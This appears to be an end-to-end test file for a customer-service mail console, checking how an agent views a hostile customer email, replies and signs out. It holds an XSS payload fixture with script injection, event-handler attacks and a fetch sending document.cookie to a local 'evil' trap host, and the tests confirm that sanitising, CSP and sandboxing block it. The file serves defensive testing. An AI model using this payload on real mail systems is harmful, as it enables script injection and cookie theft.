// An agent sees a customer's mail arrive, reads it though it is hostile, answers, and sees the answer go.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { agent, openBrowser, openHouse, opening, picture, signIn } from './console.mjs';
import { until } from '../support/scratch.mjs';

let everything, browser, trap, hits = [];

before(async () => {
  everything = await openHouse();
  browser = await openBrowser();
  // Whatever a hostile mail gets out reaches this.
  trap = http.createServer((request, response) => {
    // The browser asks for this by itself, whenever it likes.
    if (request.url !== '/favicon.ico') hits.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
}, opening);

after(async () => {
  trap?.close();
  await browser?.close();
  await everything?.close();
});

const evil = () => `http://127.0.0.1:${trap.address().port}`;

const hostile = () => `<!doctype html><html><head><base href="${evil()}/base/"><meta http-equiv="refresh" content="0;url=${evil()}/refresh">
<link rel="stylesheet" href="${evil()}/style.css"><style>@import url(${evil()}/import.css); body{background:url(${evil()}/background.png)}</style>
<script src="${evil()}/script.js"></script></head><body onload="new Image().src='${evil()}/onload'">
<p>Please look at my <b>invoice</b> 4711.</p><img alt="logo" src="cid:logo@customer.example">
<script>top.pwned = 1; parent.pwned = 1; fetch('${evil()}/fetch?' + document.cookie); top.location = '${evil()}/top'</script>
<img src="${evil()}/pixel.png"><img src=x onerror="top.pwned = 1; new Image().src='${evil()}/onerror'">
<svg onload="top.pwned = 1"><image href="${evil()}/svg.png"/></svg><iframe src="${evil()}/frame"></iframe>
<iframe srcdoc="<script>top.pwned = 1</script>"></iframe><object data="${evil()}/object"></object><video poster="${evil()}/poster.png" src="${evil()}/video"></video>
<a id="bad" href="javascript:top.pwned=1" onclick="top.pwned = 1">Click here</a> <div style="background-image:url('${evil()}/inline.png')">x</div>
<form action="${evil()}/form"><input name="password" autofocus onfocus="top.pwned = 1"><button>Go</button></form></body></html>`;

/** What must hold of the page after hostile HTML was shown in it. */
async function nothingHappened(page, number) {
  await page.waitForTimeout(1_000);
  assert.equal(await page.evaluate(() => window.pwned), undefined, 'no script of the mail ran');
  assert.equal(new URL(page.url()).pathname, `/cases/${number}`, 'the page was not taken elsewhere');
  assert.deepEqual(hits, [], 'nothing was fetched from elsewhere');
  assert.equal(await page.locator('iframe').first().getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox', 'the frame may open links, and nothing else');
}

test('the trap works: what a page asks of it is seen', async () => {
  await browser.page.goto(`${evil()}/control`);
  assert.ok(hits.includes('/control'));
  hits.length = 0;
});

test('a mail that arrives appears in the list by itself, and its text can be read', async () => {
  const { page } = browser;
  await page.goto(`${everything.house.url}/cases`);
  await signIn(page, agent);
  await page.getByRole('heading', { name: 'Cases', level: 1 }).waitFor();
  await everything.lab.mail(everything.accounts[0].user, [
    'From: Maria Jansen <maria@customer.example>', `To: ${everything.accounts[0].user}`, 'Subject: Invoice 4711',
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`, 'Message-ID: <hostile-1@customer.example>', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=mm', '', '--mm', 'Content-Type: multipart/alternative; boundary=aa', '', '--aa',
    'Content-Type: text/plain; charset=utf-8', '', 'Please look at my invoice 4711.', '--aa', 'Content-Type: text/html; charset=utf-8', '', hostile(), '--aa--',
    '--mm', 'Content-Type: image/png; name="logo.png"', 'Content-ID: <logo@customer.example>', 'Content-Disposition: inline; filename="logo.png"',
    'Content-Transfer-Encoding: base64', '', 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    '--mm', 'Content-Type: text/csv; name="figures.csv"', 'Content-Disposition: attachment; filename="figures.csv"', '', 'a,b', '1,2', '--mm--', '',
  ].join('\r\n'));
  await page.getByRole('link', { name: 'Invoice 4711' }).click();
  await page.getByRole('heading', { name: /Case \d+: Invoice 4711/ }).waitFor();
  await page.getByRole('article').getByText('Maria Jansen').first().waitFor();
  await page.getByRole('tab', { name: 'Plain text' }).click();
  await page.getByText('Please look at my invoice 4711.').waitFor();
});

test('its HTML shows, and does nothing: the server has taken the harm out', async () => {
  const { page } = browser;
  const number = /\/cases\/(\d+)/.exec(page.url())[1];
  const [answer] = await Promise.all([page.waitForResponse(/\/activities\/.*\/html$/), page.getByRole('tab', { name: 'As sent' }).click()]);
  const policy = answer.headers()['content-security-policy'];
  assert.match(policy, /(^|;\s*)sandbox allow-popups allow-popups-to-escape-sandbox(;|$)/);
  assert.match(policy, /default-src 'none'/);
  const shown = await answer.text();
  assert.match(shown, /<b>invoice<\/b>/);
  const logo = page.frameLocator('iframe').getByAltText('logo');
  await until('the picture that came with the mail', () => logo.evaluate((image) => image.naturalWidth > 0));
  assert.ok(!shown.includes(evil()) && !/script|onload|onerror|<svg|<iframe|<form|javascript:/i.test(shown.replace(/<style[^]*?<\/style>/g, '')), shown);
  await nothingHappened(page, number);
});

test('HTML that nobody has cleaned does nothing either: the policy of its address holds it', async () => {
  const { page } = browser;
  const number = /\/cases\/(\d+)/.exec(page.url())[1];
  await page.route(/\/activities\/.*\/html$/, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: hostile() });
  });
  const held = browser.complaints.length;
  await page.reload();
  await page.getByRole('tab', { name: 'As sent' }).waitFor();
  await page.frameLocator('iframe').getByText('Click here').click();
  await nothingHappened(page, number);
  await until('the browser saying what it blocked', () => browser.complaints.slice(held).some((each) => /Content Security Policy|sandboxed/.test(each)));
});

test('without that policy the frame itself still runs no script and leads nowhere', async () => {
  const { page } = browser;
  await page.unrouteAll({ behavior: 'wait' });
  // What a page may fetch without a script is not the frame's to stop.
  const withoutPictures = hostile().replace(/<(base|meta|link|img|iframe|object|video|script src)\b[^>]*>|<style>.*<\/style>|url\([^)]*\)|<svg.*<\/svg>/g, '');
  await page.route(/\/activities\/.*\/html$/, (route) => route.fulfill({ contentType: 'text/html', body: withoutPictures }));
  const number = /\/cases\/(\d+)/.exec(page.url())[1];
  await page.reload();
  await page.frameLocator('iframe').getByText('Click here').click();
  await page.frameLocator('iframe').getByRole('button', { name: 'Go' }).click();
  await nothingHappened(page, number);
  await page.unrouteAll({ behavior: 'wait' });
});

test('an attachment is a download, with its name', async () => {
  const { page } = browser;
  await page.reload();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'figures.csv' }).click()]);
  assert.equal(download.suggestedFilename(), 'figures.csv');
});

test('the agent takes the case, tells colleagues what they heard, and finds it among their own', async () => {
  const { page } = browser;
  await page.getByRole('button', { name: 'Take the case' }).click();
  await page.getByRole('article', { name: `Event: ${agent.name}` }).getByText(`Picked by ${agent.name}`).waitFor();
  await page.getByText(`Assigned to ${agent.name}`).waitFor();
  await page.getByRole('button', { name: 'Take the case' }).waitFor({ state: 'detached' });
  const note = page.getByRole('textbox', { name: 'Note for colleagues' });
  await note.fill('She rang as well.');
  await page.getByRole('button', { name: 'Add the note' }).click();
  await page.getByRole('article', { name: `Note: ${agent.name}` }).getByText('She rang as well.').waitFor();
  await until('the box being empty', async () => (await note.inputValue()) === '');
  await picture(page, 'case');

  await page.getByRole('link', { name: 'Cases', exact: true }).click();
  await page.getByRole('table', { name: 'Queues' }).waitFor();
  await page.getByLabel('Assigned to').selectOption('me');
  await page.getByRole('table', { name: 'Cases' }).getByRole('row', { name: new RegExp(`Invoice 4711.*${agent.name}`) }).waitFor();
  await picture(page, 'cases');
  await page.getByRole('link', { name: 'Invoice 4711' }).click();
  await page.getByRole('heading', { name: /Case \d+: Invoice 4711/ }).waitFor();
});

test('the agent answers, sees the answer sent, and the customer has it once', async () => {
  const { page } = browser;
  await page.getByRole('region', { name: 'Reply' }).getByLabel('Text').fill('Dear Maria,\n\nthe invoice is corrected.\n\nAnna');
  assert.equal(await page.getByRole('region', { name: 'Reply' }).getByLabel('To').inputValue(), 'maria@customer.example');
  await page.getByRole('button', { name: 'Send and close the case' }).click();
  await page.getByText('The reply is safely queued').waitFor();
  const sent = page.getByRole('article', { name: /Sent by us/ });
  await sent.getByText('the invoice is corrected.').waitFor();
  await sent.getByText('Sent', { exact: true }).waitFor();
  await page.getByRole('button', { name: 'Reopen the case' }).waitFor();
  const outside = await until('the mail outside', async () => {
    const all = await everything.lab.api('outside');
    return all.length > 0 && all;
  });
  assert.equal(outside.filter((each) => each.recipients.includes('maria@customer.example')).length, 1);
});

test('what was sent is in the list of what was sent', async () => {
  const { page } = browser;
  await page.getByRole('link', { name: 'Sent', exact: true }).click();
  const row = page.getByRole('row', { name: /Invoice 4711/ });
  await row.waitFor();
  await row.getByText('Sent', { exact: true }).waitFor();
  await page.getByLabel('State').selectOption('failed');
  await page.getByText('No mail is in this state.').waitFor();
});

test('an agent is offered nothing that only an administrator may do', async () => {
  const { page } = browser;
  await page.goto(`${everything.house.url}/accounts`);
  await page.getByRole('heading', { name: 'This page is not for your role', level: 1 }).waitFor();
  assert.equal(await page.getByRole('button', { name: /^Add/ }).count(), 0);
  assert.equal(await page.getByRole('alert').count(), 0, 'nothing was asked for that is refused');
});

test('signing out ends it, on the server too', async () => {
  const { page } = browser;
  await page.getByRole('button', { name: `Signed in as ${agent.name}` }).click();
  await page.getByRole('menuitem', { name: 'Sign out' }).click();
  await page.getByLabel('User name').waitFor();
  const status = await page.evaluate(async () => (await fetch('/api/v1/cases')).status);
  assert.equal(status, 401);
});
